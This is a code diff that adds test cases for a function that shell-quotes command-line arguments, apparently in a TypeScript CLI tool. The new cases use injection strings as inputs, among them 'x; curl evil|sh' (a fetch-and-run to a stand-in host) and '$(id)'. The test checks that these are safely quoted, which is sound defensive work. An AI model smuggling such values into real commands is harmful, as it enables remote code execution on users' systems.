@@ -32,6 +32,18 @@ const cases: readonly Case[] = [
     ['worker', '--hub', 'https://h:1', '--data', 'd'],
     `${CALL} tokens create <name>`,
   ],
+  [
+    'quotes names that a shell would read as commands',
+    ['jobs', '--group', 'x; curl evil|sh', '--group', "my dad's night", '--group', ''],
+    [],
+    String.raw`${CALL} jobs --group 'x; curl evil|sh' --group 'my dad'\''s night' --group ''`,
+  ],
+  [
+    'quotes a name that only begins like a placeholder',
+    ['wait', '--group', '<job>; $(id)', '--', '"<a>"; id'],
+    [],
+    `${CALL} wait --group '<job>; $(id)' -- '"<a>"; id'`,
+  ],
   ['names no hub to daemons', ['up'], ['jobs', '--hub', 'https://h:1'], `${CALL} up`],
   [
     'leaves the flags of the agent alone',
